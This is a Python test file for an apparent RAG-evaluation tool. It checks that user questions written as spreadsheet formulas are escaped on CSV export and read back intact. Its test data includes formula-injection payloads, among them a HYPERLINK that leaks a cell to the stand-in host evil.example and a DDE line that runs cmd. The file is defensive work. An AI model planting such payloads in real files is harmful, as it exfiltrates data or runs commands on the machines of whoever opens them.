"""Questions of users and models that are formulas: no spreadsheet computes them, and reading gives them back."""

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest

from rageval.config.evaluation import DataConfig
from rageval.corpus.files import load_corpus, read_rows
from rageval.monitoring.review import accept
from rageval.monitoring.store.conversations import add_conversations, add_votes
from rageval.monitoring.store.database import Database, connect
from rageval.text.formulas import csv_text
from tests.monitoring.made import conversation, id_of, vote

COLUMNS = ("question", "course", "document")
FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " =1", "＝1+1"]
HARMLESS = ["'--upgrade' does what?", "''=1", "It's 1 = 1", "a|b", ""]


@pytest.fixture
def database(tmp_path: Path) -> Iterator[Database]:
    """An empty one."""
    database = connect(f"sqlite:///{tmp_path / 'monitoring.db'}")
    database.migrate()
    yield database
    database.close()


def cells(file: str | Path) -> list[str]:
    """Return every cell as a spreadsheet finds it."""
    with Path(file).open(encoding="utf-8", newline="") as text:
        return [cell for row in csv.reader(text) for cell in row]


def computed(found: list[str]) -> list[str]:
    """Return the cells that a spreadsheet takes for formulas."""
    return [
        cell for cell in found if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
    ]


@pytest.mark.parametrize("question", FORMULAS)
def test_a_formula_that_a_user_asked_is_accepted_as_the_text_that_it_is(
    database: Database, corpus: Path, question: str
) -> None:
    documents, questions = str(corpus / "documents.json"), str(corpus / "questions.csv")
    data = DataConfig(documents=documents, ground_truth=questions, filter_by="course")
    add_conversations(
        database,
        [conversation(1, question=question, filter_value="a"), conversation(2, question="=2+2", filter_value="b")],
    )
    add_votes(database, [vote(1, -1)])

    first = accept(database, id_of(1), ["d2"], data)
    second = accept(database, id_of(2), ["d7"], data)  # its version repeats the rows of the first one

    assert computed(cells(first.file)) == computed(cells(second.file)) == []
    asked = [row.question for row in load_corpus(data.model_copy(update={"ground_truth": second.file})).questions]
    assert asked[20:] == [question.strip(), "=2+2"]


def test_what_is_written_is_read_as_it_was_and_nothing_else_loses_its_apostrophe(tmp_path: Path) -> None:
    rows = [
        {"question": text, "course": other, "document": text.strip()}
        for text in FORMULAS + HARMLESS
        for other in ("c", "-c")
    ]
    file, plain = tmp_path / "truth.csv", tmp_path / "plain.csv"
    file.write_text(csv_text(COLUMNS, rows), encoding="utf-8")
    plain.write_text(csv_text(COLUMNS, [{"question": "'=1", "course": "c", "document": "d"}]))

    assert computed(cells(file)) == []
    assert [row.values for row in read_rows(str(file), COLUMNS).rows] == rows
    assert cells(plain)[3] == "'=1", "a file of others that looks like ours is read as it is"
    assert [row.values["question"] for row in read_rows(str(plain), COLUMNS).rows] == ["'=1"]
